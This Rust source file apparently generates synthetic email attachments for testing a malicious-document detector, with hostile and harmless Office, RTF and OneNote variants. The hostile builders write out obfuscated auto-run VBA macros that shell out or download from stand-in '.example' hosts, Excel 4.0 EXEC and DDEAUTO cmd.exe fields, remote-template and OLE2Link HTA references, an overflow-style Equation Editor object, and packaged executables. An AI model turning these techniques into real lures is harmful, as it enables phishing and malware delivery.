//! Office documents, rich text and notes.

use crate::{
    dice::Dice,
    samples::{compound, mail, note, package, packaged, picture, program, project, rtf_object, zip},
};

/// A text between quotes as it is, in pieces, backwards or by number.
fn hidden(dice: &mut Dice, text: &str) -> String {
    match dice.number(0..4) {
        0 => format!("\"{text}\""),
        1 => text
            .as_bytes()
            .chunks(dice.number(2..6))
            .map(|piece| format!("\"{}\"", String::from_utf8_lossy(piece)))
            .collect::<Vec<_>>()
            .join(" & "),
        2 => format!("StrReverse(\"{}\")", text.chars().rev().collect::<String>()),
        _ => text
            .bytes()
            .map(|byte| format!("Chr({byte})"))
            .collect::<Vec<_>>()
            .join(" & "),
    }
}

/// The modules of a project that starts by itself and reaches out.
fn modules(dice: &mut Dice) -> Vec<String> {
    let start = dice.pick(&[
        "AutoOpen",
        "Auto_Open",
        "Document_Open",
        "Workbook_Open",
        "AutoExec",
        "Document_Close",
        "Frame1_Layout",
    ]);
    let (shell, http, stream) = (
        hidden(dice, "WScript.Shell"),
        hidden(dice, "MSXML2.XMLHTTP"),
        hidden(dice, "ADODB.Stream"),
    );
    let url = format!("http://{}.example/a", dice.word());
    let reach = match dice.number(0..6) {
        0 => "Shell \"notes.txt\", vbHide".to_string(),
        1 => format!("CreateObject({shell}).Run \"notes.txt\", 0"),
        2 => format!("URLDownloadToFile 0, \"{url}\", \"a.txt\", 0, 0"),
        3 => format!(
            "Set h = CreateObject({http})\nh.Open \"GET\", \"{url}\"\nSet s = CreateObject({stream})\ns.SaveToFile \"a.txt\""
        ),
        4 => "GetObject(\"winmgmts:Win32_Process\").Create \"notes.txt\"".to_string(),
        _ => "r = VirtualAlloc(0, 4096, 4096, 64)\nCreateThread 0, 0, r, 0, 0, 0".to_string(),
    };
    let padding = format!("' {}\n", dice.sentence()).repeat(dice.number(1..20));
    if dice.coin() {
        vec![
            format!("{padding}Private Sub {start}()\nHelper\nEnd Sub\n"),
            format!("Sub Helper()\n{reach}\nEnd Sub\n"),
        ]
    } else {
        vec![format!("Sub {start}()\n{padding}{reach}\nEnd Sub\n")]
    }
}

/// A workbook in the old format with a sheet of Excel 4.0 macros that calls a function by its number.
fn old_workbook(call: Option<u8>) -> Vec<u8> {
    let record = |kind: u16, body: &[u8]| [&kind.to_le_bytes()[..], &(body.len() as u16).to_le_bytes(), body].concat();
    let mut stream = record(0x809, &[0, 6, 5, 0, 0, 0, 0, 0]);
    stream.extend(record(
        0x85,
        &[
            0,
            0,
            0,
            0,
            if call.is_some() { 2 } else { 0 },
            u8::from(call.is_some()),
            2,
            0,
            b'A',
            b'1',
        ],
    ));
    let mut formula = vec![0; 22];
    formula[20] = 8;
    // A text as argument, then the call.
    formula.extend([0x17, 1, 0, b'x', 0x42, 1, call.unwrap_or(4), 0]);
    stream.extend(record(6, &formula));
    stream.resize(5_000, 0);
    compound(&[("/Workbook", stream)])
}

fn relationship(kind: &str, target: &str) -> String {
    format!(
        "<?xml version=\"1.0\"?><Relationships><Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>"
    )
}

const TEXT: &[u8] = b"<w:document><w:body><w:p><w:r><w:t>Figures</w:t></w:r></w:p></w:body></w:document>";

pub(super) fn macros(dice: &mut Dice) -> Vec<u8> {
    let stem = dice.word();
    let texts = modules(dice);
    let texts: Vec<&str> = texts.iter().map(String::as_str).collect();
    let (name, content) = match dice.number(0..8) {
        0 | 1 => (format!("{stem}.doc"), project(&texts, "/Macros")),
        2 | 3 => (
            format!("{stem}.docm"),
            package(
                "word",
                &[
                    ("word/document.xml", TEXT),
                    ("word/vbaProject.bin", &project(&texts, "")),
                ],
            ),
        ),
        4 => (
            format!("{stem}.xls"),
            old_workbook(Some(dice.pick(&[0x6e, 0x95, 0x96]))),
        ),
        5 => (
            format!("{stem}.xlsm"),
            package(
                "xl",
                &[(
                    "xl/macrosheets/sheet1.xml",
                    b"<xm:macrosheet><c><f>EXEC(\"notes.txt\")</f></c></xm:macrosheet>",
                )],
            ),
        ),
        6 => (
            format!("{stem}.docx"),
            package(
                "word",
                &[
                    ("word/document.xml", TEXT),
                    (
                        "word/_rels/settings.xml.rels",
                        relationship("attachedTemplate", &format!("https://{stem}.example/t.dotm")).as_bytes(),
                    ),
                ],
            ),
        ),
        _ => {
            let command = "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k echo\"";
            let runs: String = command
                .as_bytes()
                .chunks(dice.number(3..12))
                .map(|piece| {
                    format!(
                        "<w:r><w:instrText>{}</w:instrText></w:r>",
                        String::from_utf8_lossy(piece).replace('"', "&quot;")
                    )
                })
                .collect();
            (
                format!("{stem}.docx"),
                package(
                    "word",
                    &[(
                        "word/document.xml",
                        format!("<w:document><w:p>{runs}</w:p></w:document>").as_bytes(),
                    )],
                ),
            )
        }
    };
    mail(dice.sentence(), &[(&name, &content)])
}

pub(super) fn without_macros(dice: &mut Dice) -> Vec<u8> {
    let stem = dice.word();
    let (name, content) = match dice.number(0..6) {
        0 => (format!("{stem}.doc"), compound(&[("/WordDocument", dice.bytes(5_000)), ("/1Table", dice.bytes(300))])),
        1 => (format!("{stem}.xls"), old_workbook(None)),
        2 => (
            format!("{stem}.docx"),
            package("word", &[
                ("word/document.xml", b"<w:document><w:p><w:r><w:instrText> HYPERLINK \"https://partner.example/cmd\" </w:instrText></w:r><w:r><w:instrText> DDEAUTO excel \"C:\\\\sales.xls\" \"R1C1\" </w:instrText></w:r></w:p></w:document>"),
                ("word/_rels/document.xml.rels", relationship("hyperlink", "https://partner.example/").as_bytes()),
            ]),
        ),
        3 => (
            format!("{stem}.docx"),
            package("word", &[("word/_rels/settings.xml.rels", relationship("attachedTemplate", "file:///C:\\Templates\\Letter.dotx").as_bytes())]),
        ),
        4 => (
            format!("{stem}.xlsx"),
            package("xl", &[
                ("xl/worksheets/sheet1.xml", b"<worksheet><c><f>SUM(A1:A9)</f><v>45</v></c></worksheet>"),
                ("xl/externalLinks/_rels/externalLink1.xml.rels", relationship("externalLinkPath", "https://firm.sharepoint.example/prices.xlsx").as_bytes()),
            ]),
        ),
        _ => (format!("{stem}.docx"), package("word", &[("word/document.xml", TEXT), ("word/media/image1.png", &picture(dice))])),
    };
    mail(dice.sentence(), &[(&name, &content)])
}

/// An equation of the old editor, whose font has a name of so many characters.
fn equation(font: usize) -> Vec<u8> {
    let mut native = vec![0x1c, 0, 0, 0, 2, 0];
    native.resize(28, 0);
    native.extend([3, 1, 1, 3, 10, 10, 8, 0x81, 0]);
    native.extend(vec![b'F'; font]);
    native.extend([0; 40]);
    native
}

pub(super) fn objects(dice: &mut Dice) -> Vec<u8> {
    let stem = dice.word();
    let launched = format!("{stem}.{}", dice.pick(&["exe", "scr", "js", "vbs", "lnk", "bat"]));
    let native = [vec![0, 2, 0, 0], packaged(&launched, &program())].concat();
    let (name, content) = match dice.number(0..8) {
        0 => (
            format!("{stem}.rtf"),
            format!(
                "{{\\rtf1 {}{}}}",
                dice.sentence(),
                rtf_object("Package", &packaged(&launched, &program()))
            )
            .into_bytes(),
        ),
        1 => {
            // The digits interrupted by words that mean nothing.
            let object =
                rtf_object("Package", &packaged(&launched, &program())).replace('\n', "{\\mmath 1}\\nowidctlpar ");
            (format!("{stem}.doc"), format!("{{\\rt{object}}}").into_bytes())
        }
        2 => (
            format!("{stem}.rtf"),
            format!("{{\\rtf1 {}}}", rtf_object("Equation.3", &equation(64))).into_bytes(),
        ),
        3 => {
            let mut moniker = vec![0; 40];
            moniker.extend(
                format!("http://{stem}.example/a.hta")
                    .encode_utf16()
                    .flat_map(u16::to_le_bytes),
            );
            moniker.extend([0; 40]);
            (
                format!("{stem}.doc"),
                format!("{{\\rtf1\\objupdate {}}}", rtf_object("OLE2Link", &moniker)).into_bytes(),
            )
        }
        4 => (
            format!("{stem}.doc"),
            compound(&[
                ("/WordDocument", dice.bytes(4_200)),
                ("/ObjectPool/_1/\u{1}Ole10Native", native),
            ]),
        ),
        5 => (
            format!("{stem}.docx"),
            package(
                "word",
                &[
                    ("word/document.xml", TEXT),
                    (
                        "word/embeddings/oleObject1.bin",
                        &compound(&[("/\u{1}Ole10Native", native)]),
                    ),
                ],
            ),
        ),
        6 => (
            format!("{stem}.one"),
            note(&[&picture(dice), b"<html><head><hta:application id=x></head></html>"]),
        ),
        _ => (format!("{stem}.one"), note(&[&program()])),
    };
    if dice.number(0..4) == 0 {
        return mail(
            dice.sentence(),
            &[(&format!("{stem}.zip"), &zip(&[(name.as_str(), &content)]))],
        );
    }
    mail(dice.sentence(), &[(&name, &content)])
}

pub(super) fn harmless_objects(dice: &mut Dice) -> Vec<u8> {
    let stem = dice.word();
    let native = [vec![0, 2, 0, 0], packaged("plan.txt", b"Monday: ropes.")].concat();
    let (name, content) = match dice.number(0..7) {
        0 => (
            format!("{stem}.rtf"),
            format!("{{\\rtf1\\ansi {}\\par}}", dice.sentence()).into_bytes(),
        ),
        1 => (
            format!("{stem}.rtf"),
            format!("{{\\rtf1{{\\pict\\pngblip {}}}}}", hex::encode(picture(dice))).into_bytes(),
        ),
        2 => (
            format!("{stem}.rtf"),
            format!(
                "{{\\rtf1 {}}}",
                rtf_object("Package", &packaged("view.png", &picture(dice)))
            )
            .into_bytes(),
        ),
        3 => (
            format!("{stem}.doc"),
            compound(&[
                ("/WordDocument", dice.bytes(4_200)),
                ("/ObjectPool/_1/Equation Native", equation(12)),
            ]),
        ),
        4 => (
            format!("{stem}.doc"),
            compound(&[
                ("/WordDocument", dice.bytes(4_200)),
                ("/ObjectPool/_1/\u{1}Ole10Native", native),
            ]),
        ),
        5 => (
            format!("{stem}.rtf"),
            b"{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"https://partner.example/\"}{\\fldrslt site}}}".to_vec(),
        ),
        _ => (format!("{stem}.one"), note(&[&picture(dice), b"Notes of Monday"])),
    };
    mail(dice.sentence(), &[(&name, &content)])
}
